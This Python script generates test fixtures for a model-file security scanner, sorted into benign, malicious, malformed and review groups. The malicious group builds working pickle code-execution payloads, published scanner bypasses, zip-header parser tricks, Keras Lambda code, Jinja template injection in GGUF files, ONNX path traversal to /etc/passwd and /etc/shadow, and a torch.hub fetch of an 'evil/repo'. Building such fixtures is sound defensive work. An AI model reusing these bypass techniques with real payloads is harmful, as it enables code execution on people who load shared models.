#!/usr/bin/env python3
"""Builds the model-file fixtures under tests/fixtures/models/.

Run with Debian's python3 and python3-torch, -numpy, -joblib, -sklearn, -h5py, -onnx, -lz4:

    /usr/bin/python3 packages/plugin-model-files/scripts/make-fixtures.py

Outputs are small and committed, so tests never need Python. Malicious payloads only ever run
`touch /tmp/oculum-pwned` (and only if someone loads them; the scanner never does).

  benign/     ordinary checkpoints: must yield nothing above info
  malicious/  payloads and published scanner bypasses: must yield a critical finding
  malformed/  corrupt files: must yield a clear malformed (or limit) finding
  review/     neither allowed nor known-dangerous: must yield a medium (suspicious) finding
"""
import bz2
import gzip
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

import numpy as np

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'tests', 'fixtures', 'models')
PAYLOAD = 'touch /tmp/oculum-pwned'


def out(kind, name):
    d = os.path.join(ROOT, kind)
    os.makedirs(d, exist_ok=True)
    return os.path.join(d, name)


def write(kind, name, data):
    with open(out(kind, name), 'wb') as f:
        f.write(data)


class Evil:
    def __reduce__(self):
        return (os.system, (PAYLOAD,))


# --- hand-written pickle pieces -------------------------------------------------------------------
def s_unicode(s):
    b = s.encode()
    return b'\x8c' + bytes([len(b)]) + b


def proto(n):
    return b'\x80' + bytes([n])


def p0_system():
    return b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR."


# ==================================================================================================
def benign():
    import torch
    import torch.nn as nn
    import joblib
    from sklearn.linear_model import LogisticRegression
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    torch.manual_seed(0)
    lin = nn.Linear(4, 2)
    torch.save(lin.state_dict(), out('benign', 'torch_state_dict.pt'))
    opt = torch.optim.Adam(lin.parameters(), lr=0.01)
    lin(torch.randn(3, 4)).sum().backward()
    opt.step()
    torch.save(opt.state_dict(), out('benign', 'torch_optimizer.pt'))
    seq = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Dropout(0.1), nn.Linear(8, 2), nn.LayerNorm(2))
    torch.save(seq, out('benign', 'torch_full_module.pt'))
    torch.save({'epoch': 3, 'model': seq.state_dict(), 'optimizer': opt.state_dict(), 'loss': 0.25},
               out('benign', 'torch_training_checkpoint.pt'))
    torch.save(lin.state_dict(), out('benign', 'torch_legacy.pt'), _use_new_zipfile_serialization=False)
    scripted = torch.jit.script(nn.Sequential(nn.Linear(3, 3), nn.ReLU()))
    scripted.save(out('benign', 'torchscript.pt'))
    # nn.Parameter and a bf16 tensor in a state dict
    torch.save({'w': torch.zeros(2, dtype=torch.bfloat16), 'p': nn.Parameter(torch.ones(2))}, out('benign', 'torch_mixed.pth'))

    np.save(out('benign', 'numpy_array.npy'), np.arange(12, dtype=np.float32).reshape(3, 4))
    np.savez(out('benign', 'numpy_arrays.npz'), a=np.zeros(5), b=np.ones((2, 2), dtype=np.int64))
    np.savez_compressed(out('benign', 'numpy_compressed.npz'), a=np.linspace(0, 1, 50))

    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0], [0.5, 0.5], [0.2, 0.9]])
    y = np.array([0, 1, 1, 0, 1, 0])
    clf = LogisticRegression().fit(X, y)
    joblib.dump(clf, out('benign', 'sklearn_logreg.joblib'))
    pipe = Pipeline([('scale', StandardScaler()), ('rf', RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0))]).fit(X, y)
    joblib.dump(pipe, out('benign', 'sklearn_pipeline.joblib'))
    joblib.dump(clf, out('benign', 'sklearn_compressed.joblib'), compress=3)
    joblib.dump(clf, out('benign', 'sklearn_gzip.joblib'), compress=('gzip', 3))
    joblib.dump(clf, out('benign', 'sklearn_bz2.joblib'), compress=('bz2', 3))
    joblib.dump(clf, out('benign', 'sklearn_xz.joblib'), compress=('xz', 3))
    joblib.dump(clf, out('benign', 'sklearn_lzma.joblib'), compress=('lzma', 3))
    with open(out('benign', 'sklearn_pickle.pkl'), 'wb') as f:
        pickle.dump(clf, f, protocol=4)

    data = {'weights': [0.5, -1.25, 3.0], 'name': 'tiny', 'layers': (1, 2, 3), 'flags': {True, False}, 'blob': b'\x00\x01'}
    for p in range(0, 6):
        with open(out('benign', f'plain_protocol{p}.pkl'), 'wb') as f:
            pickle.dump(data, f, protocol=p)
    write('benign', 'plain.pkl.gz', gzip.compress(pickle.dumps(data, protocol=4), mtime=0))
    write('benign', 'plain.pkl.bz2', bz2.compress(pickle.dumps(data, protocol=4)))
    # CPython accepts I0x10 (int(x, 0)) and 01/00 booleans in protocol 0
    write('benign', 'protocol0_hex_int.pkl', b"(I0x10\nI01\nI00\nL0x20L\nF1.5\nS'a\\x41'\nVb\\u00e9\ntp0\n.")

    write('benign', 'model.safetensors', safetensors({'w': ('F32', [2, 2], struct.pack('<4f', 1, 2, 3, 4)),
                                                      'b': ('F16', [2], b'\x00\x3c\x00\x40')}, {'format': 'pt'}))
    llama3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}"
              "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + message['content'] | trim + '<|eot_id|>' %}"
              "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
              "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
    write('benign', 'model.gguf', gguf({'general.architecture': 'llama', 'general.name': 'tiny',
                                        'tokenizer.chat_template': llama3,
                                        'tokenizer.ggml.tokens': ['<s>', '</s>', 'a', 'b']},
                                       [('tok_embd.weight', [4, 8], 0, np.arange(32, dtype=np.float32).tobytes())]))

    import onnx
    from onnx import helper, TensorProto, numpy_helper
    w = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), name='W')
    g = helper.make_graph([helper.make_node('MatMul', ['X', 'W'], ['Y'])], 'g',
                          [helper.make_tensor_value_info('X', TensorProto.FLOAT, [2, 2])],
                          [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [2, 2])], [w])
    m = helper.make_model(g, producer_name='oculum-fixtures', opset_imports=[helper.make_opsetid('', 13)])
    onnx.save(m, out('benign', 'model.onnx'))
    # external data kept beside the model
    ext = onnx.ModelProto()
    ext.CopyFrom(m)
    t = ext.graph.initializer[0]
    t.data_location = TensorProto.EXTERNAL
    del t.external_data[:]
    e = t.external_data.add(); e.key = 'location'; e.value = 'model_external.weights'
    t.ClearField('raw_data')
    onnx.save(ext, out('benign', 'model_external.onnx'))
    write('benign', 'model_external.weights', np.ones((2, 2), dtype=np.float32).tobytes())

    import h5py
    dense = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 4], 'name': 'in'}},
        {'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2, 'activation': 'relu'}}]}}
    with h5py.File(out('benign', 'keras_model.h5'), 'w') as f:
        f.attrs['model_config'] = json.dumps(dense)
        f.attrs['keras_version'] = '2.15.0'
        f.attrs['backend'] = 'tensorflow'
        f.create_group('model_weights').create_dataset('dense/kernel', data=np.zeros((4, 2), dtype=np.float32))
    write('benign', 'keras_model.keras', keras_archive({
        'module': 'keras', 'class_name': 'Sequential', 'registered_name': None,
        'config': {'name': 'seq', 'layers': [
            {'module': 'keras.layers', 'class_name': 'InputLayer', 'config': {'batch_shape': [None, 4], 'name': 'in'}, 'registered_name': None},
            {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2, 'activation': 'relu'}, 'registered_name': None}]}}))


def safetensors(tensors, metadata=None):
    header = {}
    data = b''
    if metadata:
        header['__metadata__'] = metadata
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {'dtype': dtype, 'shape': shape, 'data_offsets': [len(data), len(data) + len(raw)]}
        data += raw
    h = json.dumps(header, separators=(',', ':')).encode()
    h += b' ' * ((8 - len(h) % 8) % 8)
    return struct.pack('<Q', len(h)) + h + data


def gguf_str(s):
    b = s.encode()
    return struct.pack('<Q', len(b)) + b


def gguf(kv, tensors, version=3):
    out_ = b'GGUF' + struct.pack('<IQQ', version, len(tensors), len(kv))
    for k, v in kv.items():
        out_ += gguf_str(k)
        if isinstance(v, str):
            out_ += struct.pack('<I', 8) + gguf_str(v)
        elif isinstance(v, list):
            out_ += struct.pack('<IIQ', 9, 8, len(v)) + b''.join(gguf_str(x) for x in v)
        elif isinstance(v, int):
            out_ += struct.pack('<II', 4, v)
    offset = 0
    for name, dims, typ, raw in tensors:
        out_ += gguf_str(name) + struct.pack('<I', len(dims)) + b''.join(struct.pack('<Q', d) for d in dims)
        out_ += struct.pack('<IQ', typ, offset)
        offset += (len(raw) + 31) // 32 * 32
    out_ += b'\x00' * ((32 - len(out_) % 32) % 32)
    for _, _, _, raw in tensors:
        out_ += raw + b'\x00' * ((32 - len(raw) % 32) % 32)
    return out_


def keras_archive(config):
    import h5py
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        stamp = (2024, 1, 1, 0, 0, 0)
        z.writestr(zipfile.ZipInfo('metadata.json', stamp), json.dumps({'keras_version': '3.3.3', 'date_saved': '2024-01-01@00:00:00'}))
        z.writestr(zipfile.ZipInfo('config.json', stamp), json.dumps(config))
        h5 = io.BytesIO()
        with h5py.File(h5, 'w') as f:
            f.create_group('layers')
        z.writestr(zipfile.ZipInfo('model.weights.h5', stamp), h5.getvalue())
    return buf.getvalue()


# ==================================================================================================
def malicious():
    import torch
    import joblib

    for p in range(0, 6):
        with open(out('malicious', f'reduce_os_system_protocol{p}.pkl'), 'wb') as f:
            pickle.dump({'model': [1, 2], 'x': Evil()}, f, protocol=p)
    torch.save({'state': torch.zeros(2), 'x': Evil()}, out('malicious', 'torch_zip_payload.pt'))
    torch.save({'state': torch.zeros(2), 'x': Evil()}, out('malicious', 'torch_legacy_payload.pt'), _use_new_zipfile_serialization=False)

    # Legacy format whose magic number is computed by a call (runs before torch checks it).
    magic = (proto(2) + b'cbuiltins\nint\n' + s_unicode('119547037146038801333356') + b'\x85R.')
    rest = b''.join(pickle.dumps(x, protocol=2) for x in (1001, {'protocol_version': 1001, 'little_endian': True,
                                                                  'type_sizes': {'short': 2, 'int': 4, 'long': 4}}))
    write('malicious', 'torch_legacy_computed_magic.pt', magic + rest + pickle.dumps(Evil(), protocol=2) + pickle.dumps([], protocol=2))

    # STACK_GLOBAL with names kept in the memo and fetched back (picklescan-style bypass).
    sg = (proto(4) + s_unicode('os') + b'\x94' + s_unicode('system') + b'\x94' + b'0' + b'0'
          + b'h\x00' + b'h\x01' + b'\x93' + s_unicode(PAYLOAD) + b'\x85R.')
    write('malicious', 'stack_global_memo.pkl', sg)
    # module and name split across memo puts and a DUP (protocol 4, 'builtins' + 'eval')
    sg2 = (proto(4) + s_unicode('builtins') + b'\x94' + s_unicode('eval') + b'\x94' + b'\x93'
           + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
    write('malicious', 'stack_global_builtins_eval.pkl', sg2)
    # pathlib + os.system: dotted name resolved by getattr chain (protocol >= 4)
    write('malicious', 'stack_global_dotted_pathlib_os.pkl',
          proto(4) + s_unicode('pathlib') + s_unicode('os.system') + b'\x93' + s_unicode(PAYLOAD) + b'\x85R.')
    # builtins + eval.__call__
    write('malicious', 'stack_global_eval_call.pkl',
          proto(4) + s_unicode('builtins') + s_unicode('eval.__call__') + b'\x93'
          + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
    # name computed while loading: STACK_GLOBAL('builtins', str(b'eval', 'ascii'))
    write('malicious', 'stack_global_computed_name.pkl',
          proto(4) + s_unicode('builtins') + b'cbuiltins\nstr\n' + b'C\x04eval' + s_unicode('ascii') + b'\x86R\x93'
          + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
    # builtins.getattr(builtins.__import__('os'), 'system')(payload)
    ga = (proto(2) + b'cbuiltins\ngetattr\n' + b'cbuiltins\n__import__\n' + b'X\x02\x00\x00\x00os' + b'\x85R'
          + b'X\x06\x00\x00\x00system' + b'\x86R' + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x85R.')
    write('malicious', 'getattr_chain.pkl', ga)
    # Python 2 name mapped by fix_imports: __builtin__.eval
    ev = ("__import__('os').system('" + PAYLOAD + "')").encode()
    write('malicious', 'py2_builtin_eval.pkl', proto(2) + b'c__builtin__\neval\n' + b'X' + struct.pack('<I', len(ev)) + ev + b'\x85R.')
    # protocol 0 forms: GLOBAL+REDUCE, INST, OBJ
    write('malicious', 'protocol0_global_reduce.pkl', p0_system())
    write('malicious', 'protocol0_inst.pkl', b"(S'" + PAYLOAD.encode() + b"'\nios\nsystem\n.")
    write('malicious', 'protocol1_obj.pkl', b"(cos\nsystem\nS'" + PAYLOAD.encode() + b"'\no.")
    # No PROTO: the unpickler takes any opcode first, so a scanner that sniffs a fixed set of first
    # bytes misses these (NONE+POP, INT+POP, a FRAME, a STACK_GLOBAL, padding past the first 512
    # bytes, one long operand first).
    write('malicious', 'no_proto_none_pop.pkl', b'N0' + p0_system())
    write('malicious', 'no_proto_int_pop.pkl', b'I1\n0' + p0_system())
    body = s_unicode('os') + s_unicode('system') + b'\x93' + s_unicode(PAYLOAD) + b'\x85R.'
    write('malicious', 'no_proto_frame.pkl', b'\x95' + struct.pack('<Q', len(body)) + body)
    write('malicious', 'no_proto_padded.pkl', b'N0' * 300 + p0_system())
    # A benign pickle, then one that starts with a FRAME: `pickle.load` called twice runs the second.
    write('malicious', 'stacked_no_proto_second.pkl', pickle.dumps({'step': 1}, protocol=2) + b'\x95' + struct.pack('<Q', len(body)) + body)
    write('malicious', 'no_proto_long_operand.pkl', b'X' + struct.pack('<I', 2000) + b'a' * 2000 + b'0' + p0_system())
    write('malicious', 'subprocess_popen.pkl', proto(2) + b'csubprocess\nPopen\n' + b'(X\x05\x00\x00\x00touchX\x11\x00\x00\x00/tmp/oculum-pwnedl\x85R.')
    # runpy / numpy runstring / operator.methodcaller / functools.partial (modelscan gaps)
    src = ("import os; os.system('" + PAYLOAD + "')").encode()
    write('malicious', 'numpy_runstring.pkl', proto(2) + b'cnumpy.testing._private.utils\nrunstring\n'
          + b'X' + struct.pack('<I', len(src)) + src + b'}\x86R.')
    # methodcaller('system', payload)(__import__('os'))
    write('malicious', 'operator_methodcaller.pkl', proto(2) + b'coperator\nmethodcaller\nX\x06\x00\x00\x00system'
          + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R'
          + b'cbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R\x85R.')
    write('malicious', 'functools_partial.pkl', proto(2) + b'cfunctools\npartial\ncos\nsystem\n'
          + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R)R.')
    write('malicious', 'torch_hub_load.pkl', proto(2) + b'ctorch.hub\nload\nX\x0b\x00\x00\x00evil/repo:xX\x05\x00\x00\x00model\x86R.')
    # payload, then a malformed opcode before STOP: the REDUCE runs before CPython fails
    write('malicious', 'payload_then_malformed.pkl', proto(2) + b'cos\nsystem\nX' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x85R\xff\xfe.')
    # a benign pickle with a malicious pickle stacked behind it (loaders that call load() twice)
    write('malicious', 'stacked_pickles.pkl', pickle.dumps({'a': 1}, protocol=2) + pickle.dumps(Evil(), protocol=2))
    # nested pickles inside bytes: allowlisted loader-of-bytes used as a carrier
    inner = pickle.dumps(Evil(), protocol=2)
    write('malicious', 'nested_pickle_loads.pkl', proto(3) + b'c_pickle\nloads\nC' + bytes([len(inner)]) + inner + b'\x85R.')
    legacy = io.BytesIO()
    torch.save({'x': Evil()}, legacy, _use_new_zipfile_serialization=False)
    lb = legacy.getvalue()
    write('malicious', 'nested_torch_load_from_bytes.pkl',
          proto(2) + b'ctorch.storage\n_load_from_bytes\nB' + struct.pack('<I', len(lb)) + lb + b'\x85R.')
    # protocol 2 carries bytes as _codecs.encode(str, 'latin1')
    write('malicious', 'nested_pickle_codecs.pkl', pickle.dumps(NestedLoads(inner), protocol=2))

    # ---- zip tricks on a PyTorch checkpoint ----
    zbuf = io.BytesIO()
    torch.save({'w': torch.zeros(2)}, zbuf)
    benign_zip = zbuf.getvalue()
    evil_pkl = pickle.dumps({'w': Evil()}, protocol=2)
    with zipfile.ZipFile(io.BytesIO(benign_zip)) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    benign_pkl = [d for n, d in members if n.endswith('data.pkl')][0]

    def rebuild(entries):
        b = io.BytesIO()
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter('ignore')
            with zipfile.ZipFile(b, 'w', zipfile.ZIP_STORED) as z:
                for n, d in entries:
                    z.writestr(n, d)
        return bytearray(b.getvalue())

    others = [(n, d) for n, d in members if not n.endswith('data.pkl')]
    # duplicate names: PyTorch reads the first (malicious), zipfile the last (benign)
    write('malicious', 'zip_duplicate_names.pt', bytes(rebuild([('archive/data.pkl', evil_pkl)] + others + [('archive/data.pkl', benign_pkl)])))
    # case: PyTorch matches names case-insensitively
    write('malicious', 'zip_case_mismatch.pt', bytes(rebuild([('archive/DATA.PKL', evil_pkl)] + others)))
    # bad CRC: zipfile refuses to read the member, PyTorch ignores CRCs
    z = rebuild([('archive/data.pkl', evil_pkl)] + others)
    patch_zip(z, 'archive/data.pkl', crc=0xDEADBEEF)
    write('malicious', 'zip_bad_crc.pt', bytes(z))
    # flag bits in the local header only: zipfile refuses "compressed patched data" (bit 5),
    # PyTorch (miniz) reads flags from the central directory only
    z = rebuild([('archive/data.pkl', evil_pkl)] + others)
    patch_zip(z, 'archive/data.pkl', flags=0x20, local_only=True)
    write('malicious', 'zip_local_flag_bits.pt', bytes(z))
    # local header names another file: zipfile refuses ("File name in directory and header differ")
    z = rebuild([('archive/data.pkl', evil_pkl)] + others)
    patch_zip(z, 'archive/data.pkl', local_name=b'archive/data.pkX')
    write('malicious', 'zip_local_name_mismatch.pt', bytes(z))
    # any archive folder name
    write('malicious', 'zip_renamed_archive_dir.pt', bytes(rebuild([('totally_not_a_model/data.pkl', evil_pkl)] + [(n.replace('archive/', 'totally_not_a_model/'), d) for n, d in others])))
    # another member first, and a name that is not a model's: torch.load finds data.pkl through the
    # central directory wherever it is
    write('malicious', 'zip_model_member_not_first.zip', bytes(rebuild([('archive/README.txt', b'notes\n'), ('archive/data.pkl', evil_pkl)] + others)))
    # nested zip: a zip inside a zip
    inner_zip = bytes(rebuild([('archive/data.pkl', evil_pkl)] + others))
    write('malicious', 'zip_nested.zip', bytes(rebuild([('checkpoints/model.pt', inner_zip)])))

    # ---- tar format (PyTorch's oldest format) ----
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for n, d in [('sys_info', pickle.dumps({'protocol_version': 1001}, protocol=2)), ('pickle', pickle.dumps(Evil(), protocol=2)),
                     ('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    write('malicious', 'torch_tar_payload.pt', tb.getvalue())
    # payload in the storage-views pickle, after raw storage bytes inside the 'storages' member
    storages = (pickle.dumps(1, protocol=2) + pickle.dumps(('0', 'cpu', torch.FloatStorage), protocol=2)
                + struct.pack('<q', 2) + struct.pack('<2f', 1.0, 2.0) + pickle.dumps([Evil()], protocol=2))
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for n, d in [('sys_info', pickle.dumps({'protocol_version': 1001}, protocol=2)), ('storages', storages),
                     ('tensors', pickle.dumps(0, protocol=2)), ('pickle', pickle.dumps({'w': 1}, protocol=2))]:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    write('malicious', 'torch_tar_payload_after_storage.pt', tb.getvalue())

    # ---- compressed ----
    write('malicious', 'payload.pkl.gz', gzip.compress(pickle.dumps(Evil(), protocol=4), mtime=0))
    write('malicious', 'payload.pkl.zlib', zlib.compress(pickle.dumps(Evil(), protocol=2)))
    with bz2.open(out('malicious', 'payload.pkl.bz2'), 'wb') as f:
        pickle.dump(Evil(), f, protocol=4)
    import lzma
    write('malicious', 'payload.pkl.xz', lzma.compress(pickle.dumps(Evil(), protocol=4)))

    # ---- NumPy object arrays and joblib ----
    arr = np.empty(2, dtype=object)
    arr[0] = 1
    arr[1] = Evil()
    np.save(out('malicious', 'object_array.npy'), arr, allow_pickle=True)
    np.savez(out('malicious', 'object_array.npz'), ok=np.zeros(3), bad=arr)
    joblib.dump({'weights': np.arange(100, dtype=np.float64), 'x': Evil()}, out('malicious', 'joblib_after_array.joblib'))
    joblib.dump(arr, out('malicious', 'joblib_object_array.joblib'))
    joblib.dump({'x': Evil()}, out('malicious', 'joblib_zlib.joblib'), compress=3)
    joblib.dump({'w': np.zeros(10), 'x': Evil()}, out('malicious', 'joblib_gzip.joblib'), compress=('gzip', 3))
    joblib.dump({'w': np.zeros(10), 'x': Evil()}, out('malicious', 'joblib_bz2.joblib'), compress=('bz2', 3))
    joblib.dump({'w': np.zeros(10), 'x': Evil()}, out('malicious', 'joblib_xz.joblib'), compress=('xz', 3))
    joblib.dump({'w': np.zeros(10), 'x': Evil()}, out('malicious', 'joblib_lzma.joblib'), compress=('lzma', 3))

    # ---- Keras ----
    import marshal, base64
    code = base64.b64encode(marshal.dumps((lambda x: __import__('os').system(PAYLOAD)).__code__)).decode()
    lam = {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': [
        {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None,
         'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}}}]}}
    write('malicious', 'keras_lambda.keras', keras_archive(lam))
    import h5py
    legacy_cfg = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': [code, None, None], 'function_type': 'lambda'}}]}}
    with h5py.File(out('malicious', 'keras_lambda.h5'), 'w') as f:
        f.attrs['model_config'] = json.dumps(legacy_cfg)
        f.attrs['keras_version'] = '2.15.0'
    ref = {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': [
        {'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None,
         'config': {'name': 'dense', 'units': 2,
                    'activation': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'function'}}}]}}
    write('malicious', 'keras_os_reference.keras', keras_archive(ref))

    # ---- GGUF chat templates ----
    ssti = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ ''.__class__.__mro__[1].__subclasses__() }}"
    write('malicious', 'gguf_template_injection.gguf', gguf({'general.architecture': 'llama', 'tokenizer.chat_template': ssti}, []))
    obf = ("{% set a = 'o' ~ 's' %}{% set c = '__cla' ~ 'ss__' %}"
           "{{ (messages | attr(c)).__base__ }}{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}")
    write('malicious', 'gguf_template_obfuscated.gguf', gguf({'general.architecture': 'llama', 'tokenizer.chat_template.tool_use': obf}, []))
    join = "{{ ((['_','_','glo','bals','_','_']|join)) }}{{ self|attr(['_','_','init','_','_']|join) }}"
    write('malicious', 'gguf_template_join.gguf', gguf({'general.architecture': 'llama', 'tokenizer.chat_template': join}, []))

    # ---- ONNX external data and custom domains ----
    import onnx
    from onnx import helper, TensorProto, numpy_helper
    def onnx_with_location(loc):
        w = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), name='W')
        w.data_location = TensorProto.EXTERNAL
        e = w.external_data.add(); e.key = 'location'; e.value = loc
        w.ClearField('raw_data')
        g = helper.make_graph([helper.make_node('MatMul', ['X', 'W'], ['Y'])], 'g',
                              [helper.make_tensor_value_info('X', TensorProto.FLOAT, [2, 2])],
                              [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [2, 2])], [w])
        return helper.make_model(g, opset_imports=[helper.make_opsetid('', 13)])
    onnx.save(onnx_with_location('../../../../etc/passwd'), out('malicious', 'onnx_external_traversal.onnx'))
    onnx.save(onnx_with_location('/etc/shadow'), out('malicious', 'onnx_external_absolute.onnx'))
    g = helper.make_graph([helper.make_node('Exec', ['X'], ['Y'], domain='com.evil.ops')], 'g',
                          [helper.make_tensor_value_info('X', TensorProto.FLOAT, [1])],
                          [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [1])])
    onnx.save(helper.make_model(g, opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('com.evil.ops', 1)]),
              out('malicious', 'onnx_custom_domain.onnx'))


class NestedLoads:
    """Pickles as pickle.loads(<bytes>), which protocol 2 spells with _codecs.encode."""
    def __init__(self, data):
        self.data = data

    def __reduce__(self):
        return (pickle.loads, (self.data,))


def patch_zip(buf, name, crc=None, flags=None, local_only=False, local_name=None):
    n = name.encode()
    i = 0
    while True:
        i = buf.find(b'PK', i)
        if i < 0:
            break
        sig = bytes(buf[i:i + 4])
        if sig == b'PK\x03\x04' and bytes(buf[i + 30:i + 30 + len(n)]) == n:
            if crc is not None:
                struct.pack_into('<I', buf, i + 14, crc)
            if flags is not None:
                struct.pack_into('<H', buf, i + 6, flags)
            if local_name is not None:
                buf[i + 30:i + 30 + len(n)] = local_name
        if sig == b'PK\x01\x02' and bytes(buf[i + 46:i + 46 + len(n)]) == n and not local_only:
            if crc is not None:
                struct.pack_into('<I', buf, i + 16, crc)
            if flags is not None:
                struct.pack_into('<H', buf, i + 8, flags)
        i += 2


# ==================================================================================================
class MyModel:
    def __init__(self):
        self.weights = [0.1, 0.2]


def review():
    import torch
    import __main__
    __main__.MyModel = MyModel
    MyModel.__module__ = '__main__'
    with open(out('review', 'custom_class.pkl'), 'wb') as f:
        pickle.dump(MyModel(), f, protocol=4)
    torch.save({'model': MyModel(), 'w': torch.zeros(1)}, out('review', 'torch_custom_class.pt'))
    # copyreg extension codes are resolved by a registry the loading program fills
    write('review', 'ext_opcode.pkl', proto(2) + b'\x82\x07)\x81.')
    # a library function that is neither on the allowlist nor the dangerous list
    write('review', 'unknown_function.pkl', proto(2) + b'cstatistics\nmean\n]K\x01a\x85R.')


# ==================================================================================================
def malformed():
    write('malformed', 'safetensors_header_too_long.safetensors', struct.pack('<Q', 10_000) + b'{"a":1}')
    # Git LFS pointers checked out in place of the weights (no LFS objects fetched): the model is absent
    lfs = b'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 548105171\n'
    write('malformed', 'lfs_pointer.safetensors', lfs)
    write('malformed', 'lfs_pointer.pt', lfs)
    write('malformed', 'safetensors_bad_json.safetensors', struct.pack('<Q', 8) + b'{"a":1,,' + b'\x00' * 8)
    ok = {'a': {'dtype': 'F32', 'shape': [2], 'data_offsets': [0, 8]}, 'b': {'dtype': 'F32', 'shape': [2], 'data_offsets': [4, 12]}}
    h = json.dumps(ok).encode()
    write('malformed', 'safetensors_overlap.safetensors', struct.pack('<Q', len(h)) + h + b'\x00' * 12)
    bad = {'a': {'dtype': 'F32', 'shape': [3, 3], 'data_offsets': [0, 8]}}
    h = json.dumps(bad).encode()
    write('malformed', 'safetensors_size_mismatch.safetensors', struct.pack('<Q', len(h)) + h + b'\x00' * 8)
    past = {'a': {'dtype': 'U8', 'shape': [100], 'data_offsets': [0, 100]}}
    h = json.dumps(past).encode()
    write('malformed', 'safetensors_past_end.safetensors', struct.pack('<Q', len(h)) + h + b'\x00' * 10)

    good = gguf({'general.architecture': 'llama'}, [('w', [8], 0, b'\x00' * 32)])
    write('malformed', 'gguf_truncated.gguf', good[:40])
    write('malformed', 'gguf_huge_string.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + struct.pack('<Q', 2**62) + b'key')
    write('malformed', 'gguf_bad_dims.gguf', b'GGUF' + struct.pack('<IQQ', 3, 1, 0) + gguf_str('w') + struct.pack('<I', 99))
    write('malformed', 'gguf_tensor_past_end.gguf', gguf({'general.architecture': 'llama'}, [('w', [1024, 1024], 0, b'\x00' * 32)]))

    write('malformed', 'pickle_truncated.pkl', pickle.dumps({'a': list(range(50))}, protocol=4)[:-20])
    write('malformed', 'pickle_invalid_opcode.pkl', proto(2) + b'}\xff\xfe.')
    write('malformed', 'pickle_bad_protocol.pkl', b'\x80\x09}.')
    write('malformed', 'pickle_memo_missing.pkl', proto(2) + b'h\x07.')

    import torch
    zb = io.BytesIO()
    torch.save({'w': torch.zeros(2)}, zb)
    write('malformed', 'zip_truncated.pt', zb.getvalue()[:-200])

    write('malformed', 'numpy_bad_header.npy', b'\x93NUMPY\x01\x00\x10\x00{"nonsense": 1}' + b'\x00' * 8)
    write('malformed', 'numpy_short_data.npy', b'\x93NUMPY\x01\x00' + struct.pack('<H', 118)
          + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000,), }".ljust(117) + b'\n' + b'\x00' * 16)
    write('malformed', 'onnx_garbage.onnx', b'\x08\x07\x3a\xff\xff\xff\xff\x0f' + b'\x00' * 10)
    write('malformed', 'gzip_corrupt.pkl.gz', gzip.compress(pickle.dumps({'a': 1}), mtime=0)[:-12] + b'\x00' * 4)
    import lzma
    write('malformed', 'xz_truncated.pkl.xz', lzma.compress(pickle.dumps({'a': list(range(100))}))[:-40])
    write('malformed', 'bz2_corrupt.pkl.bz2', bz2.compress(pickle.dumps({'a': list(range(100))}))[:-30])


def benign_everyday_models():
    """Ordinary fitted models whose pickles name functions and scalar types, not only classes."""
    import torch
